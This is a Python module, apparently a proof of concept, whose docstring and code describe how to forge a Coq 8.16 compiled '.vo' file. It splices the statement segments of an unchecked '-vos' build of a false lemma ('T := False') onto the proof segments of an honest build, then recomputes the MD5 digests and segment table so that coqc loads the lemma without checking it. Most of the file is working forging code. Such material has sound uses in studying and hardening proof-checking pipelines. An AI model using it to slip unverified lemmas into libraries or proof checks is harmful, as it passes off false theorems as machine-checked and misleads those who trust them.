"""A crafted ``.vo`` that coqc loads and ``coqchk -norec`` of a file using it accepts: a lemma whose
statement no kernel checked against its proof.

Coq 8.16's compiled file (``lib/objFile.ml``): ``Coq!``, the version (int32, big-endian), the
offset of the segment table (int64); then each segment's bytes followed by their MD5; then the
table: a count, and per segment its name, offset, length and MD5. ``coqc -vos`` compiles a file
without checking its proofs and leaves them out; its ``universes`` segment carries the mark that
makes Coq refuse it as "still a .vio". :func:`forge` takes the statements (``summary``,
``library``) from such a file of a false lemma, and the rest, proofs included, from an honest
file of the same shape: coqc loads the result without looking at the proofs, and only coqchk
run on the file itself rejects it ("Type error").
"""

from __future__ import annotations

import hashlib
import struct
import subprocess
from pathlib import Path

HONEST = "Definition T := True.\nLemma l : T.\nProof. exact I. Qed.\n"
FALSE = "Definition T := False.\nLemma l : T.\nProof. exact I. Qed.\n"  # compiled with -vos only
STATEMENTS = ("summary", "library")
ORDER = ("summary", "library", "universes", "tasks", "opaques")


def _segments(data: bytes) -> tuple[int, dict[str, bytes]]:
    version, table = struct.unpack_from(">iq", data, 4)
    count, = struct.unpack_from(">i", data, table)
    at, segments = table + 4, {}
    for _ in range(count):
        size, = struct.unpack_from(">i", data, at)
        name = data[at + 4:at + 4 + size].decode()
        pos, length = struct.unpack_from(">qq", data, at + 4 + size)
        at += 4 + size + 16 + 16
        segments[name] = data[pos:pos + length]
    return version, segments


def forge(directory: Path, logical: str = "P") -> bytes:
    """The bytes of a forged ``A.vo`` (library ``<logical>.A``): ``l : T`` with ``T := False``, carrying
    the proof ``I`` of ``True``. ``directory`` is scratch space."""
    built = {}
    for name, text, flags in (("honest", HONEST, ()), ("false", FALSE, ("-vos",))):
        place = directory / name
        place.mkdir(parents=True, exist_ok=True)
        (place / "A.v").write_text(text)
        subprocess.run(["coqc", "-q", "-Q", ".", logical, *flags, "A.v"], cwd=place, check=True, capture_output=True)
        built[name] = _segments((place / ("A.vos" if flags else "A.vo")).read_bytes())
    version, honest = built["honest"]
    segments = {**honest, **{name: built["false"][1][name] for name in STATEMENTS}}
    out = bytearray(b"Coq!" + struct.pack(">iq", version, 0))
    table = []
    for name in ORDER:
        digest = hashlib.md5(segments[name]).digest()
        table.append((name, len(out), len(segments[name]), digest))
        out += segments[name] + digest
    struct.pack_into(">q", out, 8, len(out))
    out += struct.pack(">i", len(table))
    for name, pos, length, digest in sorted(table):
        out += struct.pack(">i", len(name)) + name.encode() + struct.pack(">qq", pos, length) + digest
    return bytes(out)
